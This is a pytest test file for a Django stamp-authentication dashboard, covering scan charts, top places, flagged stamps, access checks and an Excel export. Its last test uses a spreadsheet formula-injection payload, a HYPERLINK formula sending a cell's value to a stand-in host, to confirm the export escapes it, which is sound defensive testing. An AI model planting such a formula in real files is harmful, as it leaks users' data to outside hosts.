"""The producer's dashboard: scans per day as an SVG chart, top places, flagged stamps, the
Excel export; province officers see their province's flagged stamps."""

import datetime
import io
import re

import pytest
from django.conf import settings as site_settings
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from banso.stamps.models import Scan, Stamp
from banso.stamps.selectors.dashboard import (
    dashboard_flagged_stamps,
    dashboard_scans_per_day,
    dashboard_top_places,
    stamps_flagged_for_user,
)
from banso.stamps.services.scans import FlagCode
from banso.stamps.tests.conftest import product_make, run_make

pytestmark = pytest.mark.django_db


def _at(days_ago: int, hour: int = 10) -> datetime.datetime:
    day = timezone.localdate() - datetime.timedelta(days=days_ago)
    return datetime.datetime.combine(
        day, datetime.time(hour), tzinfo=timezone.get_current_timezone()
    )


def _title(code: str) -> str:
    """A flag's title as the pages show it (in the site's language)."""
    with translation.override(site_settings.LANGUAGE_CODE):
        return str(FlagCode(code).label)


def _scan(stamp, when, *, unit=None, latitude=None, longitude=None) -> Scan:
    return Scan.objects.create(
        stamp=stamp, scanned_at=when, unit=unit, latitude=latitude, longitude=longitude
    )


@pytest.fixture
def scanned(coop, lot, make_run, muong_khuong, bac_ha):
    """A run of 5 stamps of the co-op: scans over the month, in two communes and elsewhere."""
    run = make_run(lot.product, quantity=5)
    Stamp.objects.filter(run=run).update(status="activated", lot=lot)
    stamps = list(run.stamps.order_by("number"))
    for _ in range(3):
        _scan(stamps[0], _at(0), unit=bac_ha)
    _scan(stamps[1], _at(0, hour=0), unit=muong_khuong)
    _scan(stamps[1], _at(2), unit=muong_khuong)
    _scan(stamps[2], _at(29), latitude=21.0278, longitude=105.8342)
    _scan(stamps[2], _at(29, hour=12), latitude=21.0311, longitude=105.8401)
    _scan(stamps[3], _at(30), unit=bac_ha)  # 31 days ago: outside the chart
    Stamp.objects.filter(pk=stamps[4].pk).update(
        is_flagged=True,
        flag_reasons=[{"code": "fast_travel", "at": "2025-11-20T10:00:00+07:00"}],
        scan_count=9,
    )
    return run


def test_scans_per_day_fills_thirty_days(coop, scanned):
    days = dashboard_scans_per_day(coop)
    assert len(days) == 30
    assert days[-1].day == timezone.localdate()
    assert days[0].day == timezone.localdate() - datetime.timedelta(days=29)
    assert [d.count for d in days][-1] == 4  # 3 in Bắc Hà, 1 at midnight local time
    assert days[-3].count == 1
    assert days[0].count == 2
    assert sum(d.count for d in days) == 7


def test_top_places_by_commune_then_coarse_coordinates(coop, scanned, bac_ha, muong_khuong):
    places = dashboard_top_places(coop)
    assert [(p.code, p.count) for p in places] == [
        (bac_ha.code, 4),
        (muong_khuong.code, 2),
        ("", 2),
    ]
    assert places[0].label.startswith(bac_ha.name)
    assert places[2].label == "21.0, 105.8"


def test_other_organisations_scans_are_not_counted(coop, other_coop, scanned, bac_ha):
    plum = run_make(product_make(other_coop, name="Mận", item=3), quantity=1)
    _scan(plum.stamps.get(), _at(0), unit=bac_ha)
    assert dashboard_scans_per_day(coop)[-1].count == 4
    assert dashboard_top_places(coop)[0].count == 4
    assert dashboard_scans_per_day(other_coop)[-1].count == 1


def test_flagged_stamps_of_the_organisation(coop, other_coop, scanned):
    assert [s.number for s in dashboard_flagged_stamps(coop)] == [5]
    assert not dashboard_flagged_stamps(other_coop).exists()


def test_province_officer_sees_the_province_flagged_stamps(
    province_officer, commune_officer, coop_member, other_coop_member, scanned
):
    flagged = scanned.stamps.get(number=5)
    assert list(stamps_flagged_for_user(province_officer)) == [flagged]
    assert list(stamps_flagged_for_user(coop_member)) == [flagged]
    assert not stamps_flagged_for_user(other_coop_member).exists()
    assert not stamps_flagged_for_user(commune_officer).exists()


def test_flagged_of_another_province_are_not_shown(make_user, superuser, scanned, coop, places):
    from banso.accounts.services import role_grant
    from banso.places.models import AdministrativeUnit

    ha_noi = AdministrativeUnit.objects.get(is_current=True, level="province", code="01")
    officer = make_user("Cán bộ Hà Nội")
    role_grant(user=officer, role="province_officer", unit=ha_noi)
    assert not stamps_flagged_for_user(officer).exists()


# The page and the export ---------------------------------------------------------------------


def test_dashboard_page_draws_thirty_bars(client, coop_member, coop, scanned):
    client.force_login(coop_member)
    response = client.get(reverse("stamps:dashboard", args=[coop.slug]))
    assert response.status_code == 200
    body = response.content.decode()
    svg = re.search(r'<svg class="chart" id="scans-chart".*?</svg>', body, re.S).group(0)
    assert svg.count('<rect class="bar"') == 30
    assert '<title id="scans-chart-title">' in svg and "<desc" in svg
    assert 'role="img"' in svg
    counts = [int(n) for n in re.findall(r'<g class="day" data-count="(\d+)"', svg)]
    assert counts[-1] == 4 and counts[0] == 2 and sum(counts) == 7
    heights = [float(h) for h in re.findall(r'<rect class="bar"[^>]* height="([\d.]+)"', svg)]
    assert heights[-1] == max(heights) > heights[0] > 0
    assert heights[10] == 0
    assert "<script" not in svg
    places = re.findall(r'<li data-code="(\w*)"', body)
    assert len(places) == 3
    assert 'data-serial="' + scanned.stamps.get(number=5).serial + '"' in body
    assert _title("fast_travel") in body


def test_dashboard_query_count_does_not_grow_with_scans(
    client, coop_member, coop, scanned, django_assert_max_num_queries, bac_ha
):
    client.force_login(coop_member)
    url = reverse("stamps:dashboard", args=[coop.slug])
    client.get(url)
    with django_assert_max_num_queries(12) as few:
        client.get(url)
    stamps = list(scanned.stamps.all())
    Scan.objects.bulk_create(
        Scan(stamp=stamps[n % 5], scanned_at=_at(n % 30), unit=bac_ha) for n in range(300)
    )
    Stamp.objects.filter(run=scanned).update(
        is_flagged=True,
        flag_reasons=[{"code": "claimed_elsewhere", "at": "2025-11-20T10:00:00+07:00"}],
    )
    with django_assert_max_num_queries(len(few.captured_queries)):
        assert client.get(url).status_code == 200


def test_excel_export_has_the_three_sheets(client, coop_member, coop, scanned, bac_ha):
    client.force_login(coop_member)
    response = client.get(reverse("stamps:dashboard-export", args=[coop.slug]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(io.BytesIO(response.content))
    assert len(workbook.sheetnames) == 3
    daily, top, flagged = (workbook[name] for name in workbook.sheetnames)
    rows = list(daily.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 30 and sum(count for _day, count in rows) == 7
    assert rows[-1][0].date() == timezone.localdate()
    top_rows = list(top.iter_rows(min_row=2, values_only=True))
    assert top_rows[0][1:] == (bac_ha.code, 4)
    flagged_rows = list(flagged.iter_rows(min_row=2, values_only=True))
    assert flagged_rows == [
        (
            scanned.stamps.get(number=5).serial,
            5,
            "Quýt Mường Khương",
            "MK2025-11",
            9,
            _title("fast_travel"),
        )
    ]


def test_dashboard_and_export_of_another_coop_are_404(client, other_coop_member, coop, scanned):
    client.force_login(other_coop_member)
    assert client.get(reverse("stamps:dashboard", args=[coop.slug])).status_code == 404
    assert client.get(reverse("stamps:dashboard-export", args=[coop.slug])).status_code == 404


def test_flagged_page_for_the_province_officer(client, province_officer, scanned):
    client.force_login(province_officer)
    response = client.get(reverse("stamps:flagged"))
    assert response.status_code == 200
    serial = scanned.stamps.get(number=5).serial
    assert f'data-serial="{serial}"' in response.content.decode()


def test_a_product_name_that_looks_like_a_formula_stays_text_in_the_export(
    client, coop_member, coop, scanned
):
    name = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
    type(scanned.product).objects.filter(pk=scanned.product_id).update(name=name)
    client.force_login(coop_member)
    response = client.get(reverse("stamps:dashboard-export", args=[coop.slug]))
    flagged = load_workbook(io.BytesIO(response.content)).worksheets[2]
    cell = flagged["C2"]
    assert (cell.data_type, cell.value) == ("s", "'" + name)
    assert flagged["B2"].data_type == "n"  # the stamp's number stays a number
